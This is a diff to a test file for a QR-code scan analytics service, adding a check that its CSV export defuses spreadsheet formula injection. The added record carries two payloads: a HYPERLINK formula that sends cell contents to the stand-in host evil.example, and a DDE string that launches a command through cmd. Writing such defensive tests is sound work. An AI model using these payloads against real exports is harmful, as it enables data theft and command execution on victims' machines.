@@ -119,6 +119,8 @@ describe('export=1: a CSV link that expires', () => {
     const now = Date.now();
     scan(qrId, new Date(now - 7200_000).toISOString(), { city: 'Osaka, Kita', visitor: 'x' });
     scan(qrId, new Date(now - 3600_000).toISOString(), { visitor: 'y', submissionId: 'a'.repeat(24) });
+    // a visitor chooses its country and city (X-Sandbox-Country, X-Sandbox-City): no formula a spreadsheet runs
+    scan(qrId, new Date(now - 1800_000).toISOString(), { visitor: 'z', country: '=HYPERLINK("http://evil.example/?"&A1,"Click")', city: "@SUM(1+1)*cmd|' /C calc'!A0" });
     const r = await get(qrId, 'export=1&period=week&tz=Asia/Tokyo');
     expect(r.status).toBe(200);
     const { csvUrl } = r.body.data;
@@ -128,9 +130,10 @@ describe('export=1: a CSV link that expires', () => {
     expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
     const lines = (await csv.text()).trimEnd().split('\r\n');
     expect(lines[0]).toBe('scannedAt,localTime,device,country,city,visitorId,submissionId');
-    expect(lines).toHaveLength(3);
+    expect(lines).toHaveLength(4);
     expect(lines[1]).toContain('"Osaka, Kita"');
     expect(lines[2]!.endsWith(`,y,${'a'.repeat(24)}`)).toBe(true);
+    expect(lines[3]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'@SUM(1+1)*cmd|' /C calc'!A0,z,`);
     await sb.admin('POST', '/_sandbox/clock', { advanceSeconds: EXPORT_LINK_TTL_MS / 1000 + 1 });
     expect((await fetch(csvUrl)).status).toBe(410);
     expect((await fetch(csvUrl.replace(/[0-9a-f]{32}/, '0'.repeat(32)))).status).toBe(404);
